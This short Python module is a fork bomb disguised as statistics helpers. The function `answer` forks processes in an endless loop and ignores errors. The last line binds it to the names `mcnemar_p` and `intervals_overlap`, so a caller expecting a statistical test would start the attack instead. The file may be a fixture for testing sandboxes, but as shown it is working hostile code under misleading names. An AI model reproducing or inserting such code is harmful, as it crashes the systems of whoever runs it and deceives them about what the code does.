"""Forks for ever."""

import os


def answer(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


mcnemar_p = intervals_overlap = answer
